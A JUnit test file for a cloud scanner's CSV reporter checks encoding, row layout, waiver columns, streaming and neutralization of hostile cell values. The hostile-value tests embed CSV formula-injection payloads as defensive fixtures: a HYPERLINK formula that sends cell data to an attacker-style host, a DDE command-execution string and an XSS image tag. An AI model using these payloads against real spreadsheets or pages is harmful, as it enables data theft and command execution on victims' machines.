package io.relyscan.report;

import io.relyscan.core.engine.ScanReport;
import io.relyscan.core.rule.Finding;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;

import java.nio.file.Files;
import static org.assertj.core.api.Assertions.assertThat;

class CsvReporterTest {
    @Test
    void reporter_namesItsFormatAndFile() {
        assertThat(new CsvReporter().format()).isEqualTo("csv");
        assertThat(new CsvReporter().defaultFileName()).isEqualTo("relyscan-findings.csv");
    }

    @Test
    void render_isDeterministic_utf8WithBom_crlfRows_oneRowPerFindingInReportOrder() {
        ScanReport report = ReportFixtures.report();
        byte[] bytes = new CsvReporter().render(report);
        assertThat(bytes).isEqualTo(new CsvReporter().render(ReportFixtures.report()));
        assertThat(bytes[0]).isEqualTo((byte) 0xEF);
        assertThat(bytes[1]).isEqualTo((byte) 0xBB);
        assertThat(bytes[2]).isEqualTo((byte) 0xBF);
        String csv = new String(bytes, StandardCharsets.UTF_8);
        assertThat(csv).endsWith("\r\n");
        List<List<String>> rows = parse(csv);
        assertThat(rows.get(0)).isEqualTo(CsvReporter.HEADER);
        assertThat(rows).hasSize(report.findings().size() + 1);
        for (int i = 0; i < report.findings().size(); i++) {
            Finding f = report.findings().get(i);
            List<String> row = rows.get(i + 1);
            assertThat(row).hasSize(CsvReporter.HEADER.size());
            assertThat(row.get(0)).isEqualTo(f.id());
            assertThat(row.get(1)).isEqualTo(f.ruleId());
            assertThat(row.get(4)).isEqualTo(f.outcome().name());
            assertThat(row.get(8)).isEqualTo(f.resourceArn());
        }
    }

    @Test
    void evidence_isCompactKeyValueText_inKeyOrder() {
        List<List<String>> rows = parse(new String(new CsvReporter().render(ReportFixtures.report()),
                StandardCharsets.UTF_8));
        assertThat(rows).anySatisfy(r -> assertThat(r.get(11))
                .isEqualTo("availabilityZones=[\"us-east-1a\",\"us-east-1b\"]; zoneCount=2"));
    }

    @Test
    void hostileValues_areNeutralizedAndQuoted_andParseBackToOneCellEach() {
        String csv = new String(new CsvReporter().render(ReportFormatsTestSupport.hostileReport()),
                StandardCharsets.UTF_8);
        List<List<String>> rows = parse(csv);
        List<String> hostile = ReportFormatsTestSupport.HOSTILE;
        assertThat(rows).hasSize(hostile.size() + 1);
        for (List<String> row : rows) {
            assertThat(row).hasSize(CsvReporter.HEADER.size());
            for (String cell : row) {
                assertThat(cell).as("no cell may start a formula").doesNotMatch("(?s)^[=+\\-@\t\r].*");
            }
        }
        for (int i = 0; i < hostile.size(); i++) {
            String h = hostile.get(i).replace("\ud800", "\uFFFD");
            List<String> row = rows.get(i + 1);
            String expected = "=+-@\t\r".indexOf(h.charAt(0)) >= 0 ? "'" + h : h;
            assertThat(row.get(9)).as("resource name").isEqualTo(expected);
            assertThat(row.get(10)).as("message").isEqualTo(expected);
            assertThat(row.get(11)).as("evidence").isEqualTo("tag=" + h);
        }
        assertThat(csv).contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"")
                .contains(",'+1,").contains(",'-2,").contains(",'@x,").contains(",\"'\rCR\",")
                .contains(",\"say \"\"hi\"\", then, leave\",");
    }

    @Test
    void lastColumns_holdTheBaselineStatusAndTheWaiver_afterTheOriginalThirteen() {
        ScanReport report = ReportFixtures.report();
        assertThat(CsvReporter.HEADER.subList(0, 13)).containsExactly("finding_id", "rule_id", "catalog_id",
                "severity", "outcome", "account", "region", "resource_type", "resource_arn", "resource_name",
                "message", "evidence", "controls");
        assertThat(CsvReporter.HEADER.subList(13, 18)).containsExactly("baseline", "waiver", "waiver_reason",
                "waiver_owner", "waiver_expires");
        List<List<String>> rows = parse(new String(new CsvReporter().render(report), StandardCharsets.UTF_8));
        List<String> waived = row(rows, "SUPPRESSED", ":db:reports-db");
        assertThat(waived.subList(13, 18)).containsExactly("NEW", "WAIVER-12",
                "Reporting replica, rebuilt nightly from orders-db; it is never restored.",
                "data-platform@example.com", "2027-01-31");
        List<String> expired = row(rows, "FAIL", ":autoScalingGroupName/web-asg");
        assertThat(expired.subList(13, 18)).containsExactly("PERSISTING", "waivers.yaml:10",
                "Single-zone until the capacity reservation moves, tracked in OPS-7.", "web-team", "2026-10-31");
        assertThat(row(rows, "PASS", ":db:billing-db").subList(13, 18)).containsOnly("");
        assertThat(rows.stream().skip(1).map(r -> r.get(13))).containsOnly("", "NEW", "PERSISTING");
        // Without a baseline or waivers the new columns are empty.
        assertThat(parse(new String(new CsvReporter().render(ReportFixtures.unwaivedReport()),
                StandardCharsets.UTF_8)).stream().skip(1).flatMap(r -> r.subList(13, 18).stream())).containsOnly("");
    }

    @Test
    void hostileWaiverText_isNeutralizedAndQuoted() {
        ScanReport report = ReportFormatsTestSupport.hostileWaiverReport();
        String csv = new String(new CsvReporter().render(report), StandardCharsets.UTF_8);
        List<List<String>> rows = parse(csv);
        List<String> waived = row(rows, "SUPPRESSED", ":db:orders-db");
        var w = report.waivers().get(0).waiver();
        assertThat(waived.subList(14, 18)).containsExactly(w.id(), w.reason(), w.owner(), "");
        assertThat(csv).contains(",\"Quiet alarms \"\"<b>by design</b>\"\" & =cmd|' /C calc'!A0, see "
                + "<img src=x onerror=alert(1)>.\",");
        // A waiver text that starts like a formula is neutralized like any other cell.
        var formula = new io.relyscan.core.waiver.Waiver("=HYPERLINK(\"http://x\")", w.ruleId(),
                w.resourcePattern(), null, null, "@SUM(A1)", "-ops", null, "+w.yaml:1");
        ScanReport formulas = new io.relyscan.core.waiver.WaiverSet(List.of(formula))
                .apply(ReportFixtures.unwaivedReport());
        List<String> row = row(parse(new String(new CsvReporter().render(formulas), StandardCharsets.UTF_8)),
                "SUPPRESSED", ":db:orders-db");
        assertThat(row.subList(14, 17)).containsExactly("'=HYPERLINK(\"http://x\")", "'@SUM(A1)", "'-ops");
    }

    private static List<String> row(List<List<String>> rows, String outcome, String arnEnd) {
        return rows.stream().filter(r -> r.get(4).equals(outcome) && r.get(8).endsWith(arnEnd)).findFirst()
                .orElseThrow(() -> new AssertionError("no " + outcome + " row for " + arnEnd));
    }

    @Test
    void neutralize_and_quote_followTheRules() {
        assertThat(CsvReporter.neutralize("=1+2")).isEqualTo("'=1+2");
        assertThat(CsvReporter.neutralize("a=1")).isEqualTo("a=1");
        assertThat(CsvReporter.neutralize("")).isEmpty();
        assertThat(CsvReporter.quote("plain")).isEqualTo("plain");
        assertThat(CsvReporter.quote("a,b")).isEqualTo("\"a,b\"");
        assertThat(CsvReporter.quote("a\"b")).isEqualTo("\"a\"\"b\"");
        assertThat(CsvReporter.quote("a\nb")).isEqualTo("\"a\nb\"");
    }

    @Test
    void write_streamsTheBytesRenderGives_aBufferAtATime_flushesAndLeavesTheStreamOpen() throws Exception {
        StreamingTestSupport.RecordingStream out = new StreamingTestSupport.RecordingStream();
        new CsvReporter().write(ReportFixtures.report(), out);
        assertThat(out.bytes.toByteArray()).isEqualTo(new CsvReporter().render(ReportFixtures.report()))
                .isEqualTo(Files.readAllBytes(Golden.file("findings.csv")));
        assertThat(out.flushedLast).isTrue();
        assertThat(out.closed).isFalse();

        ScanReport big = StreamingTestSupport.manyFindings(1000);
        StreamingTestSupport.RecordingStream bigOut = new StreamingTestSupport.RecordingStream();
        new CsvReporter().write(big, bigOut);
        byte[] bytes = bigOut.bytes.toByteArray();
        assertThat(bytes).isEqualTo(new CsvReporter().render(big));
        assertThat(bytes.length).isGreaterThan(256 * 1024);
        assertThat(bigOut.largestWrite).isLessThanOrEqualTo(64 * 1024);
        assertThat(bigOut.flushedLast).isTrue();
        assertThat(bigOut.closed).isFalse();
        List<List<String>> rows = parse(new String(bytes, StandardCharsets.UTF_8).substring(1));
        assertThat(rows).hasSize(1 + big.findings().size());
        assertThat(rows.get(1000).get(0)).isEqualTo(big.findings().get(999).id());
        assertThat(rows.get(1000).get(10)).isEqualTo(big.findings().get(999).message());
    }

    /** A strict RFC 4180 parser: CRLF rows, quoted fields with doubled quotes; the BOM is skipped. */
    static List<List<String>> parse(String csv) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        int i = csv.startsWith("\uFEFF") ? 1 : 0;
        boolean quoted = false;
        boolean wasQuoted = false;
        while (i < csv.length()) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"') {
                    if (i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                        cell.append('"');
                        i += 2;
                        continue;
                    }
                    quoted = false;
                } else {
                    cell.append(c);
                }
                i++;
                continue;
            }
            if (c == '"') {
                if (cell.length() != 0 || wasQuoted) {
                    throw new AssertionError("quote inside an unquoted field at " + i);
                }
                quoted = true;
                wasQuoted = true;
                i++;
            } else if (c == ',') {
                row.add(cell.toString());
                cell.setLength(0);
                wasQuoted = false;
                i++;
            } else if (c == '\r') {
                if (i + 1 >= csv.length() || csv.charAt(i + 1) != '\n') {
                    throw new AssertionError("bare CR outside quotes at " + i);
                }
                row.add(cell.toString());
                cell.setLength(0);
                wasQuoted = false;
                rows.add(row);
                row = new ArrayList<>();
                i += 2;
            } else if (c == '\n') {
                throw new AssertionError("bare LF outside quotes at " + i);
            } else {
                if (wasQuoted) {
                    throw new AssertionError("text after a closing quote at " + i);
                }
                cell.append(c);
                i++;
            }
        }
        if (quoted || cell.length() != 0 || !row.isEmpty()) {
            throw new AssertionError("last row does not end with CRLF");
        }
        return rows;
    }
}
